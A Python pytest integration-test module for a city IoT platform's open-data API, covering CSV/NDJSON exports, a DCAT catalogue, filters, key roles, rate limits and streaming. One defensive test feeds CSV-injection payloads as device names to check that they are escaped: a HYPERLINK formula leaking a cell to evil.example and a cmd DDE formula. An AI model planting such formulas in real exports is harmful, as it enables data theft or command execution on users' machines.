"""Open data on a real PostgreSQL, fed through the real ingest path: exports, the catalogue, keys and their limits.

One module of ~440 lines: the open-data routes' tests share one database filled through the ingest.
"""

from __future__ import annotations

import csv
import io
import json
import threading
import time
import tracemalloc
from collections import defaultdict
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import anyio
import psycopg
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from ioc_core.settings import ApiSettings, OpenDataSettings
from tests.api_support import HAI_CHAU, SON_TRA, Raw, app_for, device, ingest, key, lpp, raw_request
from tests.waiting import wait_for

pytestmark = [pytest.mark.integration, pytest.mark.both_modes]

URL = "/api/v1/open/measurements"
CATALOGUE = "/api/v1/open/catalogue"
COLUMNS = ["time", "dev_eui", "device", "kind", "zone", "metric", "unit", "value"]

NOW = datetime.now(UTC).replace(second=0, microsecond=0)
LAST = NOW - timedelta(minutes=3)
FRAMES = 96
"""Frames per device, every 15 minutes: 24 hours ending at LAST."""
SPAN = {"from": (LAST - timedelta(days=2)).isoformat(), "to": (NOW + timedelta(hours=1)).isoformat()}


@pytest.fixture(autouse=True)
def _now() -> None:
    """NOW as each test starts: exports default to windows ending at the server's clock, and in a long run a time
    taken at import is minutes old by the time these tests run, pushing the oldest frames out of them."""
    global NOW, LAST, SPAN
    NOW = datetime.now(UTC).replace(second=0, microsecond=0)
    LAST = NOW - timedelta(minutes=3)
    SPAN = {"from": (LAST - timedelta(days=2)).isoformat(), "to": (NOW + timedelta(hours=1)).isoformat()}

THACH_THANG = (16.0450, 108.2150)
"""Inside Hải Châu and inside the ward Thạch Thang that the fixture adds under it."""

PUBLIC_HC = "00000000000000a1"   # temperature/humidity, Hải Châu
PUBLIC_WARD = "00000000000000a2"  # temperature/humidity, ward Thạch Thang (in Hải Châu)
PUBLIC_ST = "00000000000000b1"   # temperature/humidity, Sơn Trà
AIR = "00000000000000c1"         # air quality node, Hải Châu
PRIVATE = "00000000000000d1"     # temperature/humidity, Hải Châu, public=false
RETIRED = "00000000000000e1"     # decommissioned after reporting
PUBLISHED = {PUBLIC_HC, PUBLIC_WARD, PUBLIC_ST, AIR}
SECRET = "s3cret"


def _app(db_url: str, api: ApiSettings | None = None, **open_data: Any) -> FastAPI:
    """The API with open-data limits high enough to stay out of the way, unless ``open_data`` sets them."""
    limits = {"rate_per_minute": 60_000, "rate_burst": 10_000, **open_data}
    return app_for(db_url, api=api, open_data=OpenDataSettings(**limits))


@pytest.fixture
def api_client(db_url: str) -> Iterator[TestClient]:
    with TestClient(_app(db_url)) as client:
        yield client


@pytest.fixture
def developer(db_url: str) -> dict[str, str]:
    return key(db_url, "dev-1", "developer")


def _add_ward(db_url: str) -> None:
    lat, lon = THACH_THANG
    ring = ",".join(f"({lon + dx},{lat + dy})" for dx, dy in ((-.003, -.003), (.003, -.003), (.003, .003),
                                                               (-.003, .003), (-.003, -.003)))
    with psycopg.connect(db_url, autocommit=True) as conn:
        zone = conn.execute(
            """INSERT INTO zones (code, name, level, parent_code, boundary)
               VALUES ('thach-thang', 'Thạch Thang', 'ward', 'hai-chau', '{}') RETURNING id""").fetchone()
        assert zone is not None
        conn.execute("INSERT INTO zone_rings (zone_id, ring) VALUES (%s, %s::polygon)", (zone[0], f"({ring})"))


@pytest.fixture
def fleet(api_client: TestClient, admin: dict[str, str], db_url: str) -> None:
    """Six devices, each with 24 hours of frames through the ingest; one private, one decommissioned after."""
    _add_ward(db_url)
    secrets = {"tags": {"owner": SECRET}, "description": f"{SECRET} description", "join_eui": "70b3d57ed0000000",
               "app_key": "0f1e2d3c4b5a69788796a5b4c3d2e1f0"}
    bodies = [device(PUBLIC_HC, HAI_CHAU, name='TH "Cầu Rồng", bờ Đông', **secrets),
              device(PUBLIC_WARD, THACH_THANG), device(PUBLIC_ST, SON_TRA),
              device(AIR, HAI_CHAU, kind="air_quality", name="AQ chợ Hàn"),
              device(PRIVATE, HAI_CHAU, public=False), device(RETIRED, SON_TRA)]
    for body in bodies:
        response = api_client.post("/api/v1/devices", headers=admin, json=body)
        assert response.status_code == 201, response.text
    assert api_client.get(f"/api/v1/devices/{PUBLIC_WARD}", headers=admin).json()["zone"]["code"] == "thach-thang"
    frames: list[Any] = []
    for n, eui in enumerate(sorted({*PUBLISHED, PRIVATE, RETIRED})):
        for i in range(FRAMES):
            when = LAST - timedelta(minutes=15 * (FRAMES - 1 - i), seconds=n)
            frames.append((eui, i + 1, lpp(20 + n + (i % 40) / 10, 40 + n + i % 20), when))
    ingest(db_url, frames)
    assert api_client.delete(f"/api/v1/devices/{RETIRED}", headers=admin).status_code == 200


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text)))


def _lines(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    return [json.loads(line) for line in response.text.splitlines()]


def _error(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error: dict[str, Any] = response.json()["error"]
    return error


def test_csv_export_holds_published_devices_only(api_client: TestClient, developer: dict[str, str],
                                                 fleet: None) -> None:
    response = api_client.get(URL, headers=developer, params=SPAN)
    assert response.text.splitlines()[0] == ",".join(COLUMNS)
    assert response.headers["content-disposition"] == 'attachment; filename="ioc-open-data-all-all-raw.csv"'
    rows = _csv(response)
    assert {r["dev_eui"] for r in rows} == PUBLISHED
    assert len(rows) == len(PUBLISHED) * FRAMES * 2  # temperature and humidity each frame
    assert SECRET not in response.text and "70b3d57ed0000000" not in response.text and "0f1e2d3c" not in response.text
    times = [r["time"] for r in rows]
    assert times == sorted(times) and all(t.endswith("Z") for t in times)
    first = next(r for r in rows if r["dev_eui"] == PUBLIC_HC)
    assert first["device"] == 'TH "Cầu Rồng", bờ Đông' and first["kind"] == "temperature_humidity"
    assert first["zone"] == "hai-chau"
    assert {(r["metric"], r["unit"]) for r in rows} == {("temperature", "Cel"), ("humidity", "%RH")}
    zones = {r["dev_eui"]: r["zone"] for r in rows}
    assert zones == {PUBLIC_HC: "hai-chau", PUBLIC_WARD: "thach-thang", PUBLIC_ST: "son-tra", AIR: "hai-chau"}
    assert datetime.fromisoformat(first["time"]) == LAST - timedelta(minutes=15 * (FRAMES - 1))


def test_each_filter_narrows_the_export(api_client: TestClient, developer: dict[str, str], fleet: None) -> None:
    def devices(**filters: str) -> set[str]:
        return {r["dev_eui"] for r in _csv(api_client.get(URL, headers=developer, params={**SPAN, **filters}))}

    assert devices(zone="hai-chau") == {PUBLIC_HC, PUBLIC_WARD, AIR}  # a district includes its wards
    assert devices(zone="thach-thang") == {PUBLIC_WARD}
    assert devices(zone="son-tra") == {PUBLIC_ST}
    assert devices(zone="cam-le") == set()
    assert devices(kind="air_quality") == {AIR}
    assert devices(kind="temperature_humidity", zone="hai-chau") == {PUBLIC_HC, PUBLIC_WARD}
    assert devices(dev_eui=PUBLIC_ST.upper()) == {PUBLIC_ST}
    assert devices(dev_eui=PUBLIC_ST, zone="hai-chau") == set()
    humidity = _csv(api_client.get(URL, headers=developer, params={**SPAN, "metric": "humidity"}))
    assert {r["metric"] for r in humidity} == {"humidity"} and len(humidity) == len(PUBLISHED) * FRAMES
    window = {"from": (LAST - timedelta(hours=1)).isoformat(), "to": LAST.isoformat()}
    recent = _csv(api_client.get(URL, headers=developer, params={**window, "dev_eui": PUBLIC_HC}))
    assert len(recent) == 2 * 4  # frames at LAST-60, -45, -30, -15 minutes; LAST itself is 'to', excluded
    default = _csv(api_client.get(URL, headers=developer, params={"dev_eui": PUBLIC_HC}))
    assert len(default) == 2 * FRAMES  # the last 24 hours


def test_json_lines_carry_the_same_rows_as_csv(api_client: TestClient, developer: dict[str, str], fleet: None) -> None:
    params = {**SPAN, "zone": "hai-chau"}
    rows = _csv(api_client.get(URL, headers=developer, params=params))
    response = api_client.get(URL, headers=developer, params={**params, "format": "json"})
    assert response.headers["content-disposition"].endswith('-hai-chau-all-raw.ndjson"')
    lines = _lines(response)
    assert [list(line) for line in lines[:1]] == [COLUMNS]
    assert [{**r, "value": float(r["value"])} for r in rows] == lines
    assert SECRET not in response.text
    bucketed = _lines(api_client.get(URL, headers=developer, params={**params, "format": "json", "bucket": "1h"}))
    assert list(bucketed[0]) == [*COLUMNS, "min", "max", "n"]
    assert all(line["min"] <= line["value"] <= line["max"] for line in bucketed)


def test_hourly_and_daily_exports_are_the_means_of_the_raw_rows(api_client: TestClient, developer: dict[str, str],
                                                                 fleet: None) -> None:
    raw = _csv(api_client.get(URL, headers=developer, params=SPAN))
    by_hour: dict[tuple[str, str, datetime], list[float]] = defaultdict(list)
    for r in raw:
        hour = datetime.fromisoformat(r["time"]).replace(minute=0, second=0, microsecond=0)
        by_hour[(r["dev_eui"], r["metric"], hour)].append(float(r["value"]))
    hourly = _csv(api_client.get(URL, headers=developer, params={**SPAN, "bucket": "1h"}))
    assert list(hourly[0]) == [*COLUMNS, "min", "max", "n"]
    assert {(r["dev_eui"], r["metric"], datetime.fromisoformat(r["time"])): (
        pytest.approx(float(r["value"])), float(r["min"]), float(r["max"]), int(r["n"])) for r in hourly} == {
        k: (pytest.approx(sum(v) / len(v)), min(v), max(v), len(v)) for k, v in by_hour.items()}
    daily = _csv(api_client.get(URL, headers=developer, params={**SPAN, "bucket": "1d"}))
    assert {datetime.fromisoformat(r["time"]).hour for r in daily} == {17}  # midnight in Da Nang
    assert sum(int(r["n"]) for r in daily) == len(raw)
    assert {r["zone"] for r in daily if r["dev_eui"] == PUBLIC_WARD} == {"thach-thang"}


def test_private_and_retired_devices_never_appear(api_client: TestClient, admin: dict[str, str],
                                                  developer: dict[str, str], fleet: None) -> None:
    for eui in (PRIVATE, RETIRED, "ffffffffffffffff"):
        error = _error(api_client.get(URL, headers=developer, params={"dev_eui": eui}), 422)
        assert error == {"code": "invalid", "message": f"no published device has DevEUI {eui}", "field": "dev_eui"}
    assert api_client.patch(f"/api/v1/devices/{PUBLIC_ST}", headers=admin, json={"public": False}).status_code == 200
    assert {r["dev_eui"] for r in _csv(api_client.get(URL, headers=developer, params=SPAN))} == PUBLISHED - {PUBLIC_ST}
    catalogue = api_client.get(CATALOGUE, headers=developer).json()
    assert "son-tra/temperature_humidity" not in {d["dct:identifier"] for d in catalogue["dcat:dataset"]}


def test_the_catalogue_lists_a_dataset_per_kind_and_zone(db_url: str, developer: dict[str, str],
                                                          fleet: None) -> None:
    app = _app(db_url, base_url="https://data.danang.example/", data_licence="https://example.org/odbl")
    with TestClient(app) as client:
        response = client.get(CATALOGUE, headers=developer)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "application/ld+json"
        assert SECRET not in response.text and PRIVATE not in response.text
        plain = client.get(CATALOGUE, headers={**developer, "Accept": "application/json"})
        assert plain.headers["content-type"] == "application/json" and plain.json() == response.json() | {
            "dct:modified": plain.json()["dct:modified"]}
        body = response.json()
        assert body["@type"] == "dcat:Catalog" and body["dct:license"] == "https://example.org/odbl"
        assert body["@context"]["dcat"] == "http://www.w3.org/ns/dcat#"
        assert body["@context"]["dct"] == "http://purl.org/dc/terms/"
        assert body["@id"] == "https://data.danang.example/api/v1/open/catalogue"
        datasets = {d["dct:identifier"]: d for d in body["dcat:dataset"]}
        assert list(datasets) == ["hai-chau/air_quality", "hai-chau/temperature_humidity",
                                  "son-tra/temperature_humidity", "thach-thang/temperature_humidity"]
        th = datasets["hai-chau/temperature_humidity"]
        assert th["@type"] == "dcat:Dataset" and th["ioc:deviceCount"] == 2  # its ward's device included
        assert th["dct:title"] == "Temperature/humidity sensors, Hải Châu"
        assert th["dct:license"] == "https://example.org/odbl"
        assert th["dct:accrualPeriodicity"] == "PT10M" and th["dcat:temporalResolution"] == "PT10M"
        assert datasets["hai-chau/air_quality"]["dct:accrualPeriodicity"] == "PT15M"
        assert th["dct:spatial"] == {"@type": "dct:Location", "dct:identifier": "hai-chau", "schema:name": "Hải Châu",
                                     "ioc:level": "district"}
        ward = datasets["thach-thang/temperature_humidity"]
        assert ward["dct:spatial"]["schema:name"] == "Thạch Thang" and ward["ioc:deviceCount"] == 1
        assert {(v["schema:name"], v["schema:unitText"]) for v in th["schema:variableMeasured"]} == {
            ("temperature", "Cel"), ("humidity", "%RH")}
        air_quality = datasets["hai-chau/air_quality"]["schema:variableMeasured"]
        air = {v["schema:name"]: v["schema:unitText"] for v in air_quality}
        assert air["pm2_5"] == "ug/m3" and air["co2"] == "ppm"
        # The ward's device (the second of the fleet) reports a second before the first one.
        first_hour = (LAST - timedelta(minutes=15 * (FRAMES - 1), seconds=1)).replace(minute=0, second=0)
        assert th["dct:temporal"] == {"@type": "dct:PeriodOfTime",
                                      "dcat:startDate": first_hour.isoformat().replace("+00:00", "Z"),
                                      "dcat:endDate": (LAST.replace(minute=0, second=0) + timedelta(hours=1))
                                      .isoformat().replace("+00:00", "Z")}
        downloads = {d["dct:format"]: d for d in th["dcat:distribution"] if "dct:format" in d}
        assert downloads["CSV"]["dcat:downloadURL"] == (
            "https://data.danang.example/api/v1/open/measurements?zone=hai-chau&kind=temperature_humidity&format=csv")
        assert downloads["NDJSON"]["dcat:mediaType"] == "application/x-ndjson"
        feed = [d for d in th["dcat:distribution"] if "ioc:topicFilter" in d]
        assert feed[0]["dcat:mediaType"] == "application/senml+json"
        # The feed's topics name the zone a device is placed in: the district's own and its ward's.
        assert feed[0]["ioc:topicFilter"] == ["ioc/v1/hai-chau/temperature_humidity/#",
                                              "ioc/v1/thach-thang/temperature_humidity/#"]
        ward_feed = [d for d in ward["dcat:distribution"] if "ioc:topicFilter" in d]
        assert ward_feed[0]["ioc:topicFilter"] == ["ioc/v1/thach-thang/temperature_humidity/#"]
        path = downloads["CSV"]["dcat:downloadURL"].removeprefix("https://data.danang.example")
        assert {r["dev_eui"] for r in _csv(client.get(path, headers=developer))} == {PUBLIC_HC, PUBLIC_WARD}


def test_every_role_may_read_open_data_and_no_key_none(api_client: TestClient, db_url: str, fleet: None) -> None:
    for role, zones in (("operator", ["son-tra"]), ("technician", ["son-tra"]), ("admin", [])):
        caller = key(db_url, f"k-{role}", role, zones)
        # Zones limit what a key sees of the registry, not of public data.
        assert {r["dev_eui"] for r in _csv(api_client.get(URL, headers=caller, params=SPAN))} == PUBLISHED
        assert api_client.get(CATALOGUE, headers=caller).status_code == 200
    for url in (URL, CATALOGUE):
        assert _error(api_client.get(url), 401)["code"] == "unauthorized"
        assert api_client.get(url, headers={"Authorization": "Bearer ioc_nope"}).status_code == 401
    developer = key(db_url, "dev-2", "developer")
    assert api_client.get("/api/v1/devices", headers=developer).status_code == 403  # open data only


@pytest.mark.parametrize(
    ("params", "field", "words"),
    [
        ({"from": "2024-01-01T00:00:00Z", "to": "2025-01-02T00:00:00Z"}, "from", "at most 366 days"),
        ({"from": "2024-01-02T00:00:00Z", "to": "2024-01-01T00:00:00Z"}, "to", "after 'from'"),
        ({"from": "2024-01-01T00:00:00Z", "to": "2024-01-01T00:00:00Z"}, "to", "after 'from'"),
        ({"kind": "volcano"}, "kind", "Input should be"),
        ({"metric": "unobtainium"}, "metric", "unknown metric"),
        ({"kind": "water_level", "metric": "pm2_5"}, "metric", "publish water_level, battery_voltage"),
        ({"zone": "atlantis"}, "zone", "unknown zone"),
        ({"zone": "Hai Chau"}, "zone", "pattern"),
        ({"dev_eui": "00000000000000a"}, "dev_eui", "pattern"),
        ({"bucket": "5m"}, "bucket", "Input should be"),
        ({"format": "xml"}, "format", "Input should be"),
        ({"to": "0001-01-01T00:00:00Z"}, "to", "too early"),
        ({"from": "9999-12-31T23:00:00-23:00", "to": "9999-12-31T23:59:00Z"}, "from", "out of range"),
    ],
)
def test_bad_filters_are_422_naming_the_filter(api_client: TestClient, developer: dict[str, str],
                                               params: dict[str, str], field: str, words: str) -> None:
    error = _error(api_client.get(URL, headers=developer, params=params), 422)
    assert error["field"] == field and words in error["message"], error


def test_a_key_past_its_rate_gets_429_and_other_keys_do_not(db_url: str) -> None:
    first, second = key(db_url, "dev-a", "developer"), key(db_url, "dev-b", "developer")
    with TestClient(_app(db_url, rate_per_minute=6, rate_burst=3)) as client:
        for _ in range(3):
            assert client.get(CATALOGUE, headers=first).status_code == 200
        refused = client.get(URL, headers=first)
        error = _error(refused, 429)
        assert error["code"] == "rate_limited" and "6 open-data requests a minute" in error["message"]
        assert 1 <= int(refused.headers["retry-after"]) <= 10
        assert client.get(CATALOGUE, headers=second).status_code == 200
        assert client.get(CATALOGUE).status_code == 401  # no key: no bucket to take from
        assert client.get("/api/v1/users", headers=key(db_url, "root", "admin")).status_code == 200  # others unlimited


def test_a_key_streams_a_bounded_number_of_exports_at_once(db_url: str, fleet: None) -> None:
    first, second = key(db_url, "dev-a", "developer"), key(db_url, "dev-b", "developer")
    app = _app(db_url, exports_per_key=1, exports_max=2)
    with TestClient(app) as client:
        with client.stream("GET", URL, headers=first, params=SPAN) as running:
            assert running.status_code == 200
            busy = client.get(URL, headers=first, params=SPAN)
            assert _error(busy, 429)["message"].startswith("this key streams 1 export already")
            assert busy.headers["retry-after"] == "5"
            with client.stream("GET", URL, headers=second, params=SPAN) as other:
                assert other.status_code == 200
                third = key(db_url, "dev-c", "developer")
                assert "2 exports are streaming" in _error(client.get(URL, headers=third, params=SPAN), 429)["message"]
                assert client.get(CATALOGUE, headers=first).status_code == 200  # the catalogue is no export
        _settled(app)
        assert client.get(URL, headers=first, params=SPAN).status_code == 200


def _settled(app: FastAPI) -> None:
    """Wait for the streams the client left to end on the server: their slots and connections given back."""
    wait_for(lambda: not (app.state.open_data.exports.running or _checked_out(app)), timeout_s=5,
             what=lambda: f"the streams to end: {app.state.open_data.exports.running}, {app.state.pool.get_stats()}",
             interval_s=0.01)


def _checked_out(app: FastAPI) -> int:
    stats = app.state.pool.get_stats()
    return int(stats["pool_size"] - stats["pool_available"])


@pytest.mark.slow
def test_a_large_export_streams_in_many_chunks_in_little_memory(api_client: TestClient, developer: dict[str, str],
                                                                 db_url: str, fleet: None) -> None:
    """200,000 readings of one public device, straight into the table, read back as a stream."""
    start = NOW - timedelta(days=40)
    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.execute(
            """INSERT INTO measurements (time, device_id, zone_id, metric_id, value, quality)
               SELECT %(start)s + i * interval '5 seconds', d.id, d.zone_id, 5, (i %% 1000) / 10.0, 0
               FROM devices d, generate_series(0, 199999) AS i WHERE d.dev_eui = %(eui)s""",
            {"start": start, "eui": PUBLIC_ST})
    params = {"dev_eui": PUBLIC_ST, "metric": "temperature", "from": start.isoformat(),
              "to": (start + timedelta(days=20)).isoformat()}
    chunks = rows = size = largest = 0
    peak = 0
    began = time.monotonic()
    with api_client.stream("GET", URL, headers=developer, params=params) as response:
        assert response.status_code == 200
        for chunk in response.iter_raw():
            if chunks == 0:
                tracemalloc.start()  # over the first windows only: tracing slows the whole stream fourfold
            elif chunks == 80:
                peak = tracemalloc.get_traced_memory()[1]
                tracemalloc.stop()
            chunks += 1
            rows += chunk.count(b"\n")
            size += len(chunk)
            largest = max(largest, len(chunk))
    elapsed = time.monotonic() - began
    assert rows == 200_001  # and the header
    assert chunks >= 200 and largest < 1000 * 120, (chunks, largest)  # 1,000 rows a chunk
    assert peak < 8 * 2**20, peak  # a window at a time: the whole export would take some 20 MB as text alone
    assert elapsed < 30, elapsed
    # A api_client that leaves early: the rest is never read, the connections go back to the pool.
    with api_client.stream("GET", URL, headers=developer, params=params) as response:
        next(response.iter_raw())
    _settled(api_client.app)  # type: ignore[arg-type]


FORMULAS = {PUBLIC_HC: '=HYPERLINK("http://evil.example/?"&A1,"click")', PUBLIC_WARD: "+1+cmd|' /C calc'!A0",
            PUBLIC_ST: "-2+3", AIR: "@SUM(A1:A9)"}


def test_csv_cells_a_spreadsheet_would_run_are_defused(api_client: TestClient, admin: dict[str, str],
                                                       developer: dict[str, str], fleet: None) -> None:
    """OWASP's CSV injection advice: a leading quote, and the cell quoted; JSON lines keep the names as they are."""
    for eui, name in FORMULAS.items():
        assert api_client.patch(f"/api/v1/devices/{eui}", headers=admin, json={"name": name}).status_code == 200
    response = api_client.get(URL, headers=developer, params=SPAN)
    names = {r["dev_eui"]: r["device"] for r in _csv(response)}
    assert names == {eui: "'" + name for eui, name in FORMULAS.items()}
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in response.text
    assert all(not line.split(",")[2].startswith(("=", "+", "-", "@")) for line in response.text.splitlines())
    lines = _lines(api_client.get(URL, headers=developer, params={**SPAN, "format": "json"}))
    assert {r["dev_eui"]: r["device"] for r in lines} == FORMULAS


async def _stall(message: dict[str, Any]) -> None:
    """A client that never reads: the server's send waits as on a full socket."""
    if message["type"] == "http.response.body":
        await anyio.sleep_forever()


def test_clients_that_stop_reading_lose_their_exports_and_the_slots_come_back(db_url: str, fleet: None) -> None:
    first, second, third = (key(db_url, f"dev-{n}", "developer") for n in "abc")
    app = _app(db_url, ApiSettings(export_idle_timeout_s=1.0), exports_per_key=1, exports_max=2)
    query = "&".join(f"{k}={v.replace('+', '%2B')}" for k, v in SPAN.items())
    with TestClient(app) as client:
        stalled: list[Raw] = []

        def hold(headers: dict[str, str]) -> None:
            stalled.append(raw_request(client, "GET", URL, query=query, send=_stall, limit_s=15,
                                       headers={"authorization": headers["Authorization"]}))

        holders = [threading.Thread(target=hold, args=(h,)) for h in (first, second)]
        for t in holders:
            t.start()
        wait_for(lambda: app.state.open_data.exports.running >= 2, timeout_s=5, what="both exports to start",
                 interval_s=0.01)
        assert _error(client.get(URL, headers=third, params=SPAN), 429)  # both slots held by clients not reading
        for t in holders:
            t.join(20)
        # Dropped after a second without reading (before: held for ever), with the connection and the slot.
        assert [(r.status, r.answered) for r in stalled] == [(200, False), (200, False)]
        _settled(app)
        assert len(_csv(client.get(URL, headers=third, params=SPAN))) == len(PUBLISHED) * FRAMES * 2


def test_an_export_read_too_slowly_is_cut_at_the_send_timeout(db_url: str, fleet: None) -> None:
    developer = key(db_url, "dev-slow", "developer")
    app = _app(db_url, ApiSettings(export_idle_timeout_s=10, export_send_timeout_s=0.5))

    async def trickle(message: dict[str, Any]) -> None:
        await anyio.sleep(0.3)  # each piece taken, but slowly

    with TestClient(app) as client:
        began = time.monotonic()
        raw = raw_request(client, "GET", URL, send=trickle, limit_s=15,
                          headers={"authorization": developer["Authorization"]})
        assert raw.status == 200 and not raw.answered and time.monotonic() - began < 5
        _settled(app)
